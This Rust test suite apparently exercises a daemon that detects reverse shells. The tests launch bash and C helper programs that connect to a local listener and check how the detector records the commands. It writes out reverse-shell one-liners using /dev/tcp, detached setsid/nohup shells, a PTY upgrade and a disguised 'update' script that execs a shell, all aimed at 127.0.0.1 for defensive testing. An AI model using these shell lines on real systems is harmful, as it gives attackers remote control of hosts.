//! What hangs on a tether without having the socket, and what came to it by detours.

use std::process::{Command, Stdio};

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::expected::{Expected, prove, prove_session};
use crate::common::mode::mode;
use crate::common::notes::note;
use crate::common::programs::program;
use crate::common::victim::Victim;
use crate::common::{nap, token};
use crate::require;

/// Row 10: what the shell starts belongs to the incident, wherever its own descriptors lead.
#[test]
fn descendants_with_descriptors_elsewhere_join_the_timeline() {
    require!("gcc", "setsid");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let port = attacker.port().to_string();
    let mut victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    let mut session = attacker.accept();
    let (token, file) = (token(), directory.path().join("out"));
    session.run(&format!("/usr/bin/printf {token} >{} </dev/null 2>&1", file.display()));
    assert_eq!(std::fs::read_to_string(&file).unwrap(), token);
    // A child in a session of its own, whose parents are gone before it runs anything.
    session.run(&format!(
        "(setsid sh -c 'sleep 0.3; /usr/bin/printf {token}b >{}2' </dev/null >/dev/null 2>&1 &)",
        file.display()
    ));
    let found = Daemon::shared().wait_for("both commands on the timeline", |record| {
        record.peer_port() == Some(attacker.port())
            && record.ran(&["/usr/bin/printf", &token])
            && record.ran(&["/usr/bin/printf", &format!("{token}b")])
    });
    assert_eq!(found.row(), 1, "{}", found.brief());
    let times: Vec<_> = found.processes().iter().map(|process| process["pid"].clone()).collect();
    assert!(times.len() >= 3 && found.count() >= 3, "{}", found.brief());
    session.exit();
    victim.wait();
}

/// The program moves its own descriptors after its exec, so there is nothing to see then; its children are seen.
#[test]
fn children_of_a_late_mover() {
    require!("gcc");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start(program("attack"), &["late", "127.0.0.1", &port, "-", "-"]);
    let mut session = attacker.accept();
    let nap = nap();
    let line = format!("/bin/sleep {nap}\n");
    session.send(&line);
    let found = Daemon::shared().wait_for("the command line of the late mover", |record| {
        record.peer_port() == Some(attacker.port()) && record.row() == 1 && record.ran(&["sh", "-c", &line])
    });
    assert_eq!(found.severity(), "HIGH", "{}", found.brief());
    // dash runs its last command in its own place: the same process, twice on the timeline.
    Daemon::shared().wait_for("the command itself", |record| {
        record.id() == found.id() && record.ran(&["/bin/sleep", &nap])
    });
    drop((session, victim));
}

/// bash moves its own descriptors with exec; what it starts has them.
#[test]
fn bash_moves_its_own_descriptors() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!(
        "exec </dev/tcp/127.0.0.1/{} >&0 2>&0; while read -r l; do eval \"$l\"; done",
        attacker.port()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    let nap = nap();
    session.run(&format!("/bin/sleep {nap}"));
    let found = Daemon::shared().wait_for("a command of a bash that moved", |record| {
        record.peer_port() == Some(attacker.port()) && record.row() == 1 && record.ran(&["/bin/sleep", &nap])
    });
    assert_eq!(found.severity(), "HIGH", "{}", found.brief());
    drop((session, victim));
}

/// A loop reads lines from one descriptor and gives each command the socket as its output.
#[test]
fn bash_line_loop_is_row_3() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!(
        "exec 5<>/dev/tcp/127.0.0.1/{}; while read -r l <&5; do $l </dev/null >&5 2>&5; done",
        attacker.port()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    let nap = nap();
    session.send(&format!("/bin/sleep {nap}\n"));
    let found = Daemon::shared().wait_for("row 3", |record| {
        record.peer_port() == Some(attacker.port()) && record.row() == 3 && record.ran(&["/bin/sleep", &nap])
    });
    assert_eq!(found.severity(), "MEDIUM", "{}", found.brief());
    assert_eq!(found.numbers("Socket_Fds"), [1, 2], "{}", found.brief());
    drop((session, victim));
}

#[test]
fn su_to_nobody() {
    require!("bash", "su");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; su -s /bin/sh nobody <&5 >&5 2>&5", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let expected = Expected { uid: "65534", ..Expected::default() };
    let found = prove(Daemon::shared(), &attacker, victim, &expected);
    assert!(found.processes().iter().any(|process| process["name"] == "su"), "{}", found.brief());
}

/// Launchers pass the socket on; the shell at the end of the chain is named.
#[test]
fn launchers_pass_the_socket_on() {
    require!("gcc", "env", "nice", "timeout", "setsid", "nohup");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let chain = ["env", "X=1", "nice", "nohup", "setsid", "timeout", "60", "sh", "-s"];
    let victim =
        Victim::start(program("attack"), &[&["dup", "127.0.0.1", &port, "012"][..], &chain[..]].concat());
    prove(Daemon::shared(), &attacker, victim, &Expected { args: &["sh", "-s"], ..Expected::default() });
}

/// The launcher ends; its shell is adopted and goes on under the same finding.
#[test]
fn a_launcher_that_ends() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; sh <&5 >&5 2>&5 & exit", attacker.port());
    let mut victim = Victim::start("/bin/bash", &["-c", &line]);
    victim.wait();
    prove(Daemon::shared(), &attacker, victim, &Expected::default());
}

/// The same with a session of its own and no terminal to hang up.
#[test]
fn a_launcher_that_ends_after_setsid_and_nohup() {
    require!("bash", "setsid", "nohup");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{port}; setsid nohup sh <&5 >&5 2>&5 & exit");
    let mut victim = Victim::start("/bin/bash", &["-c", &line]);
    victim.wait();
    let session = attacker.accept();
    prove_session(Daemon::shared(), session, victim, &Expected::default());
}

/// A PTY on top of the socket: what runs in it is on the timeline of the shell that opened it.
#[test]
fn pty_upgrade_stays_in_the_incident() {
    require!("gcc", "script");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let mut start = Command::new(program("attack"));
    start.args(["dup", "127.0.0.1", &port, "012", "/bin/sh"]).stdin(Stdio::null());
    let victim = Victim::spawn(start);
    let mut session = attacker.accept();
    session.shell_pid();
    session.send("exec script -qc /bin/sh /dev/null\n");
    // Not before the new shell's prompt: the old one may read ahead.
    session.hear("# ");
    let token = token();
    let said = session.run(&format!("/usr/bin/printf {token}; tty"));
    assert!(said.contains("/dev/pts/"), "{said:?}");
    let found = Daemon::shared().wait_for("the command in the PTY", |record| {
        record.peer_port() == Some(attacker.port()) && record.ran(&["/usr/bin/printf", &token])
    });
    note(Daemon::shared(), &found);
    prove_session_ends(session, victim);
}

fn prove_session_ends(session: crate::common::attacker::Session, mut victim: Victim) {
    session.exit();
    victim.wait();
}

/// A script with an interpreter line, exec'd on the socket: the interpreter is the program, the script an argument.
#[test]
fn an_interpreter_line() {
    use std::os::unix::fs::PermissionsExt;
    require!("gcc");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let script = directory.path().join("update");
    std::fs::write(&script, "#!/bin/sh\nexec /bin/sh -i\n").unwrap();
    std::fs::set_permissions(&script, PermissionsExt::from_mode(0o755)).unwrap();
    let (port, script) = (attacker.port().to_string(), script.to_str().unwrap());
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port, "012", script]);
    let session = attacker.accept();
    let found = prove_session(
        Daemon::shared(),
        session,
        victim,
        &Expected { args: &["/bin/sh", "-i"], ..Expected::default() },
    );
    // Nobody waits in notify: the script's exec may be read when the shell's is done, and is taken for the same.
    assert!(mode() == "notify" || found.ran(&["/bin/sh", script]), "{}", found.brief());
}
